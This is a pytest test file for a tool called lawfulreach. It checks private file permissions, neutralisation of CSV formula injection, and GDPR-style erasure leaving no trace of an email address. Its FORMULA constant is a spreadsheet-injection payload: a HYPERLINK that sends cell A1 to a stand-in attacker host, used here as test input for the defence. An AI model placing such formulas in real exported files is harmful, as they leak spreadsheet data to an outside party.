"""Files lawfulreach writes: private (0600), formula-safe CSV cells that our own readers read back
unchanged, and nothing left under the workspace home that names an erased person."""

from __future__ import annotations

import csv
import os
import stat
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path

import polars as pl
import pytest
from fastapi.testclient import TestClient

from lawfulreach.api.app import create_app
from lawfulreach.api.backend import Backend
from lawfulreach.api.config import ApiConfig
from lawfulreach.batch.reader import read_prospects
from lawfulreach.csvsafe import TRIGGERS, neutralise, restore
from lawfulreach.messaging import MailSettings
from lawfulreach.store import Subject, Workspace, WorkspaceSettings, add_tenant
from lawfulreach.store.suppression import Entry
from lr_testkit import fresh_database

Write = Callable[[str, str], Path]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
PUBLIC_URL = "https://optout.example.test"
EMAIL = "jana.novak@firma.example"


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


class TestNeutralising:
    @pytest.mark.parametrize("first", list(TRIGGERS))
    def test_every_trigger_is_quoted_and_restored(self, first: str) -> None:
        cell = f"{first}cmd"
        assert neutralise(cell) == f"'{cell}"
        assert restore(neutralise(cell)) == cell

    @pytest.mark.parametrize("cell", ["plain", "'quoted", "'=already", "''+twice", "", "a=b", "-", "'"])
    def test_the_round_trip_is_lossless(self, cell: str) -> None:
        assert restore(neutralise(cell)) == cell

    def test_numbers_stay_numbers(self) -> None:
        assert neutralise(-5) == -5


class TestExclusionExport:
    def test_private_neutralised_and_read_back_unchanged(
        self, open_ws: Callable[..., Workspace], write: Write, tmp_path: Path
    ) -> None:
        ws = open_ws()
        ws.suppressions.add(Entry("phone", "+442079460018", reason=FORMULA))
        ws.suppressions.add(Entry("email", "-jane@firma.example", reason="@mention\tand tab"))
        ws.suppressions.add(Entry("domain", "firma.example", reason="+1 plus"))
        out = tmp_path / "exports" / "exclusions.csv"
        out.parent.mkdir()
        out.write_text("old")
        os.chmod(out, 0o644)  # an existing, looser file does not keep its mode
        assert ws.suppressions.export(out) == 3
        assert _mode(out) == 0o600
        rows = _cells(out)[1:]
        for row in rows:
            for cell in row:
                assert not cell or cell[0] not in TRIGGERS, row
        assert ["'+442079460018", f"'{FORMULA}"] in [r[1:3] for r in rows]
        assert not list(out.parent.glob(".*.part"))
        # another tenant imports the export: every value and reason as it was
        add_tenant(ws.settings, "copy")
        copy = open_ws("copy")
        copy.suppressions.import_file(out)
        assert [(e.kind, e.value, e.reason) for e in copy.suppressions.entries()] == [
            (e.kind, e.value, e.reason) for e in ws.suppressions.entries()
        ]


def _screen(workdir: Path, prospects: Path, out: Path) -> subprocess.CompletedProcess[str]:
    (workdir / "campaign.toml").write_text('name = "Test"\npurpose = "marketing"\nlia = "passed"\n')
    env = {
        **os.environ,
        "LAWFULREACH_HOME": str(workdir / "home"),
        "LAWFULREACH_DATABASE_URL": f"sqlite:///{workdir}/ws.sqlite",
    }
    args = ["screen", str(prospects), "--campaign", str(workdir / "campaign.toml"), "--channels", "email,call"]
    return subprocess.run(
        [sys.executable, "-m", "lawfulreach", *args, "--out", str(out), "--report", str(workdir / "r.html")],
        capture_output=True,
        text=True,
        cwd=workdir,
        env=env,
        timeout=120,
    )


class TestScreenOutputs:
    def test_results_and_rejects_are_private_formula_safe_and_read_back(self, tmp_path: Path) -> None:
        prospects = tmp_path / "prospects.csv"
        prospects.write_text(
            "email,phone,company,country\n"
            f'jane@firma.de,+49 30 901820,"{FORMULA.replace(chr(34), chr(34) * 2)}",DE\n'
            "bob@acme.co.uk,+44 20 7946 0018,@Acme Ltd,GB\n"
            "bad@x.de,1,2,3,4\n",
            encoding="utf-8",
        )
        out = tmp_path / "out.csv"
        result = _screen(tmp_path, prospects, out)
        assert result.returncode == 0, result.stderr
        rejects = tmp_path / "prospects-rejects.csv"
        assert (_mode(out), _mode(rejects)) == (0o600, 0o600)
        for path in (out, rejects):
            for row in _cells(path):
                for cell in row:
                    assert not cell or cell[0] not in TRIGGERS, (path.name, row)
        # the results file screened again reads the same values (quotes removed by our reader)
        again = read_prospects(out).frame
        assert again["company"].to_list() == [FORMULA, "@Acme Ltd"]
        assert again["phone"].to_list() == ["+49 30 901820", "+44 20 7946 0018"]
        assert pl.read_csv(out, infer_schema=False)["company"].to_list() == [f"'{FORMULA}", "'@Acme Ltd"]


@pytest.fixture
def outbox_server(
    backend: str, request: pytest.FixtureRequest, tmp_path: Path, clock: object
) -> Iterator[tuple[Backend, TestClient]]:
    """A server writing verification mail to an outbox under the workspace home, as ``serve`` does."""
    home = tmp_path / "home"
    home.mkdir(exist_ok=True)
    databases = fresh_database(backend, str(request.config.getoption("--pg-url")), home, prefix="lr_files")

    settings = WorkspaceSettings(url=next(databases), key_file=home / "workspace.key")
    config = ApiConfig(workspace=settings, public_url=PUBLIC_URL, mail=MailSettings(outbox=home / "outbox"))
    server = Backend.open(config, clock=clock)  # type: ignore[arg-type]
    client = TestClient(create_app(server), raise_server_exceptions=False, base_url=PUBLIC_URL)
    try:
        yield server, client
    finally:
        client.close()
        server.close()
        for _ in databases:
            pass


class TestErasureLeavesNoFile:
    def test_no_file_under_the_home_names_the_person(
        self, outbox_server: tuple[Backend, TestClient], tmp_path: Path
    ) -> None:
        server, client = outbox_server
        home = tmp_path / "home"
        headers = {"Origin": PUBLIC_URL, "Referer": f"{PUBLIC_URL}/privacy-request"}
        sent = client.post("/privacy-request", data={"request_type": "erasure", "email": EMAIL}, headers=headers)
        assert sent.status_code == 200, sent.text
        other = client.post(
            "/privacy-request", data={"request_type": "access", "email": "someone@else.example"}, headers=headers
        )
        assert other.status_code == 200
        mail = list((home / "outbox").glob("*.eml"))
        assert len(mail) == 2
        assert any(EMAIL.encode() in p.read_bytes() for p in mail)
        server.tenant_named("default").workspace.erase([Subject("email", EMAIL)])
        holding = [p for p in home.rglob("*") if p.is_file() and EMAIL.encode() in p.read_bytes().lower()]
        assert holding == []
        assert len(list((home / "outbox").glob("*.eml"))) == 1  # the other person's mail is left alone
